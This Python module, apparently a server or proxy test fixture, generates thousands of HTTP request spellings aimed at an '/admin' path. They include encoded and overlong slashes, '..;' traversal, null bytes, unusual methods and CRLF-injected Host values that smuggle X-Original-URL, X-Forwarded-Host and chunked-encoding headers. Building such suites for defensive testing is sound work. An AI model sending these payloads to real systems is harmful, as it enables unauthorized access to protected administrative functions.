# SPDX-License-Identifier: Apache-2.0
"""Requests for /FORM/admin/x, in thousands of spellings: each that some server is known to read so, and their products.

    for spelling in spellings("part"):
        spelling.bytes(headers)

The same ones, in the same order, each time. What a server makes of them is not known here.
"""

import itertools
from dataclasses import dataclass

SLASHES = ["/", "//", "/./", "/.//", "%2f", "%2F", "%252f", "%c0%af", "%e0%80%af", "%f0%80%80%af", "%ef%bc%8f", "%u002f",
           "\\", "%5c", "%255c", "\\/", "/%5c", "/;/", ";/", ";a=1/", "/;a=1/", ";a=1;b/", "/.;/", "/%2e/", "/%252e/",
           "/x/../", "/x/..;/", "/x/%2e%2e/", "/x%2f../", "/x\\..\\", "/x/..%2f", "#/", "%23/", "?/", "%3f/", "%00/",
           "/%00/", "%09/", "/%09", "\t/", "%20/", "/%20/", "%0a/", "%0d%0a/", "%3b/", "%3ba/", "/%3b/", "/%2e%3b/", "/:/",
           "%c0%ae/", "/..;/part/"]
NAMES = ["admin", "%61dmin", "%61%64%6d%69%6e", "adm%69n", "%2561dmin", "ADMIN", "Admin", "%41dmin", "%c1%a1dmin",
         "%e0%81%a1dmin", "%u0061dmin", "%ef%bd%81dmin", "admin.", "admin..", "admin%20", "admin%2e", "admin;", "admin;x=1",
         "admin%3b", "admin%3bx", "admin%00", "%00admin", "adm%00in", "admin%09", "admin%0a", "admin%5c", "admin\\",
         "admin%2f", "admin~", "admin%ff", ";admin", "admin%c2%a0", "%20admin", "admin::$DATA", "+admin", "admin+"]
ENDS = ["", "/", "/x", "/x.php", "//x", "/index.php", ";/x", "/x;a=1.css", "%2fx", "%5cx", "?x", "%3fx", "#x", "%23x",
        "/x%00.css", "/.", "/./x", "/x.php/y", "/x/.."]
DOTS = ["..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "..;", "..;a=1", "%2e%2e;", "..%3b", ".;.", "%c0%ae%c0%ae",
        "%e0%80%ae%e0%80%ae", "%u002e%u002e", "%ef%bc%8e%ef%bc%8e", "..%00", "..%09", "..%20", "...", "..%0d", "..%5c.",
        ".%00."]
UPS = ["/", "//", "%2f", "%252f", "\\", "%5c", "%c0%af", "/./", ";/", "%00/", "%3b/", "/;/", "%255c"]
LEADS = ["http://127.0.0.1", "HTTP://127.0.0.1", "http://other.test", "https://127.0.0.1", "http://127.0.0.1:1", "http://",
         "http://u:p@127.0.0.1", "http://127.0.0.1/..", "http://127.0.0.1\\@other.test", "http://127.0.0.1#", "ftp://x",
         "file://", "//x", "//127.0.0.1", "///", "/.", "/..", "/../..", "/%2e%2e", "/x/..", "/x/..;", "/;", "/;a=1", "/%2f",
         "/%5c", "\\", "/\\", "*", "/*", " ", "\t", "%2f", "/%00", "/%2e", "/%252e%252e", "/twauth/..", "/twauth/..;",
         "/twauth/login/..", "/twauth/auth/..", "/.well-known/..", "http:", "http:/x", "@", "/@x", "proxy:http://x", "?",
         "/?/..", "/#/.."]
METHODS = ["HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "SEARCH",
           "REPORT", "PURGE", "get", "Get", "GETX", "G%45T", "M-SEARCH", "CONNECT", "PRI", "X" * 300, "GET\t", " GET"]
HOSTS = ["", "other.test", "127.0.0.1:1", "127.0.0.1.", "127.0.0.1:80:80", "LOCALHOST", "[::1]", "[", "127.0.0.1/..",
         "127.0.0.1\t", " 127.0.0.1", "u@127.0.0.1", "127.0.0.1#", "a b", "%31", "127.0.0.1\\x", "127.0.0.1,other.test",
         "x" * 300, "127.0.0.1\r\nHost: other.test", "127.0.0.1\r\nX-Forwarded-Host: other.test",
         "127.0.0.1\r\nX-Original-URL: /part/open", "127.0.0.1\r\nX-Rewrite-URL: /part/open",
         "127.0.0.1\r\nX-Forwarded-Prefix: /part/open", "127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n0"]
VERSIONS = ["HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "HTTP/0.9", "http/1.1", "HTTP/1.1 ", "HTTP/1.1\t", "HTTP/01.1", "HTTP/1.10",
            "HTTPS/1.1", "x HTTP/1.1", ""]
FEW = ["/FORM/admin/x", "/FORM/admin", "/FORM/admin/x.php", "/FORM/open/../admin/x", "/FORM/open/..;/admin/x",
       "/FORM//admin/x", "/FORM/%61dmin/x", "/FORM/admin;/x", "/FORM/open%2f..%2fadmin/x", "/FORM/front.php/admin/x"]


@dataclass(frozen=True)
class Spelling:
    target: str
    method: str = "GET"
    host: str = "127.0.0.1"
    version: str = "HTTP/1.1"

    def bytes(self, headers=""):
        """The whole request; `headers` are lines, each with its end."""
        line = " ".join(filter(None, (self.method, self.target, self.version)))
        host = f"Host: {self.host}\r\n" if self.host else ""
        length = "Content-Length: 0\r\n" if self.method in ("POST", "PUT", "PATCH") else ""
        return f"{line}\r\n{host}{length}{headers}\r\n".encode("latin-1")

    def __str__(self):
        return " ".join(filter(None, (self.method, self.target, self.version, self.host))).encode("unicode_escape").decode()


def targets():
    """Of FORM, and of all that is to be read as the part admin of it."""
    yield from FEW
    yield from ("/FORM" + join + name + end for join in SLASHES for name in NAMES[:6] for end in ENDS[:8])
    yield from ("/FORM/" + name + end for name in NAMES for end in ENDS)
    yield from ("/FORM/open" + before + dots + after + name
                for before in UPS for dots in DOTS for after in UPS for name in ("admin/x",))
    yield from ("/FORM/front.php" + before + name + end for before in UPS for name in NAMES[:4] for end in ENDS[:3])
    yield from ("/FORM/open/" + "/".join([dots] * deep) + "/" + rest for dots in DOTS for deep in (2, 3)
                for rest in ("FORM/admin/x", "admin/x"))
    yield from (lead + target for lead in LEADS for target in FEW)


def spellings(form, every=1):
    """All spellings for a form, or every so many of them."""
    found = dict.fromkeys(Spelling(target) for target in targets())
    found |= dict.fromkeys(Spelling(target, method=method) for method in METHODS for target in FEW)
    found |= dict.fromkeys(Spelling(target, host=host) for host in HOSTS for target in FEW)
    found |= dict.fromkeys(Spelling(target, version=version) for version in VERSIONS for target in FEW)
    return [Spelling(one.target.replace("FORM", form), one.method, one.host.replace("FORM", form), one.version)
            for one in itertools.islice(found, 0, None, every)]
